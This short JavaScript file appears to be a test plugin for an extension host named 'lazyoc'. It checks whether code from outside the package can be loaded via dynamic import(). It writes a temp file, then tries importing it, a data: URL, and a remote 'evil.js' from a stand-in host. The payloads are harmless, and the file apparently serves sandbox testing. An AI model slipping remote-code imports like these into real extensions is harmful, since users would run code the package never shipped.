// Runs text that was no part of the package by importing it: written out, fetched, from its own files and from the host's.
lazyoc.on("command", async () => {
  await lazyoc.call("files.write", { path: "/tmp/fetched.js", data: "export default 2" });
  for (const name of ["data:text/javascript,export default 2", "/tmp/fetched.js", "https://example.com/evil.js", "std"]) {
    try { console.log(`${name} gave ${(await import(name)).default}`); } catch (e) { console.log(`failed: ${e.message}`); }
  }
  return {};
});
export const part = 2;
lazyoc.on("action", () => { console.log(`its own part gave ${part}`); return {}; });
